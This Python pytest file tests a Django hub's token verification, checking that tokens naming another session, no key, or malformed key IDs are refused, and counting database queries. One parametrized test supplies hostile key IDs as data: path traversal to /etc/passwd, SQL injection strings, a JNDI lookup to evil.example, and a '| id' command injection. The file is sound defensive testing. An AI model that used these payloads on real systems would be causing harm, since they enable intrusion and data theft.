"""Tokens whose `kid` names a key that is not the signer's, or no key at all."""

from typing import Any

import pytest
from pytest_django import DjangoAssertNumQueries

from hub.tokens import signing_keys
from realms.ids import SESSION, new_id
from tests.cases import cases
from tests.cast import Agent
from tests.rows import forget_credentials
from tests.tokens.presenting import accepts, assert_refused, present
from tests.tokens.signing import Signer, hub_token

UNKNOWN_THUMBPRINT = "A" * 43


@pytest.fixture(params=["sibling", "foreigner"])
def other(request: pytest.FixtureRequest) -> Signer:
    """A session of the same key, or one of another realm."""
    other: Signer = request.getfixturevalue(request.param)
    assert accepts(other.token())
    return other


def test_the_key_of_another_session_does_not_verify(signer: Signer, other: Signer) -> None:
    assert_refused(signer.compact(other.header(), signer.claims()))
    assert_refused(signer.compact(other.header(), other.claims()))


@cases("claim", ["iss", "sub"])
def test_a_session_speaks_for_itself_alone(signer: Signer, other: Signer, claim: str) -> None:
    assert accepts(signer.token())

    assert_refused(signer.token(**{claim: other.id}))


def test_a_session_does_not_speak_for_another(signer: Signer, other: Signer) -> None:
    assert_refused(signer.token(iss=other.id, sub=other.id))


@pytest.mark.parametrize("claim", ["iss", "sub", "kid"])
def test_the_three_names_are_one_text(signer: Signer, claim: str) -> None:
    lower = signer.id.lower()
    assert accepts(signer.compact(signer.header(kid=lower), signer.claims(iss=lower, sub=lower)))

    if claim == "kid":
        assert_refused(signer.compact(signer.header(kid=lower), signer.claims()))
    else:
        assert_refused(signer.token(**{claim: lower}))


def test_a_session_without_a_key_signs_nothing(signer: Signer, alice: Agent) -> None:
    assert_refused(signer.compact(signer.header(kid=alice.id), signer.claims(iss=alice.id, sub=alice.id)))


def test_a_session_that_is_none_signs_nothing(signer: Signer) -> None:
    nobody = new_id(SESSION)

    assert_refused(signer.compact(signer.header(kid=nobody), signer.claims(iss=nobody, sub=nobody)))


@cases("sub", ["sess_01HX9J2N3PQRSTVWXYZ0123456", "", "alice", "key_01HX9J2N3PQRSTVWXYZ0123456", 1, None])
def test_the_hub_speaks_for_sessions_that_there_are(alice: Agent, sub: Any) -> None:
    assert accepts(hub_token(alice, sub=alice.id.lower()))

    assert_refused(hub_token(alice, sub=sub))


@cases("iss", ["", "http://testserver/", "https://testserver", "testserver", None])
def test_the_hub_names_itself_as_the_issuer(alice: Agent, iss: str | None) -> None:
    assert accepts(hub_token(alice))

    assert_refused(hub_token(alice, iss=iss))
    assert_refused(hub_token(alice, iss=alice.id))


@cases(
    "kid",
    [
        "",
        "sess_",
        "../../../etc/passwd",
        "sess_../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "' OR '1'='1",
        "sess_01HX9J2N3PQRSTVWXYZ0123456' OR 1=1 --",
        "sess_01HX9J2N3PQRSTVWXYZ0123456; DROP TABLE hub_session",
        "1 UNION SELECT public_key FROM hub_session",
        "\0",
        "sess_01HX9J2N3PQRSTVWXYZ012345\0",
        UNKNOWN_THUMBPRINT + "\n",
        UNKNOWN_THUMBPRINT[:-1] + "\0",
        UNKNOWN_THUMBPRINT[:-1],
        UNKNOWN_THUMBPRINT + "A",
        "A" * 64,
        "A" * 65,
        "A" * 2000,
        "A" * 10_240,
        "\u017fess_01HX9J2N3PQRSTVWXYZ0123456",
        "sess_\u06601HX9J2N3PQRSTVWXYZ0123456",
        "${jndi:ldap://evil.example/a}",
        "| id",
        1,
        1.5,
        True,
        [],
        ["sess_01HX9J2N3PQRSTVWXYZ0123456"],
        {"kid": "sess_01HX9J2N3PQRSTVWXYZ0123456"},
        None,
    ],
)
def test_a_kid_that_names_no_key_costs_no_query(
    signer: Signer, kid: Any, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    signing_keys.signer()
    assert accepts(signer.token())
    token = signer.compact({**signer.header(), "kid": kid}, signer.claims())

    with django_assert_num_queries(0):
        assert_refused(token)


def test_no_kid_at_all_costs_no_query(
    signer: Signer, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    token = signer.compact(signer.header(kid=None), signer.claims())

    with django_assert_num_queries(0):
        assert_refused(token)


@cases("wrong", ["nobody", "unknown thumbprint", "signature", "claims", "no key"])
def test_any_other_refusal_costs_the_look_up_alone(
    signer: Signer, alice: Agent, django_assert_num_queries: DjangoAssertNumQueries, wrong: str
) -> None:
    token = {
        "nobody": signer.compact(signer.header(kid=new_id(SESSION)), signer.claims()),
        "unknown thumbprint": signer.compact(signer.header(kid=UNKNOWN_THUMBPRINT), signer.claims()),
        "signature": signer.token()[:-4] + "AAAA",
        "claims": signer.compact(signer.header(), b"not JSON"),
        "no key": signer.compact(signer.header(kid=alice.id), signer.claims()),
    }[wrong]

    with django_assert_num_queries(1):
        assert present(token).status == 401


def test_a_good_token_costs_the_look_up_once_a_second(
    signer: Signer, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    accepts(signer.token())  # notes that the key is in use
    token = signer.token()
    with django_assert_num_queries(2):  # the listing
        signer.agent.get("sessions")

    with django_assert_num_queries(2 + 1):
        assert accepts(token)
    with django_assert_num_queries(2):
        assert accepts(token)
    forget_credentials()
    with django_assert_num_queries(2 + 1):
        assert accepts(token)
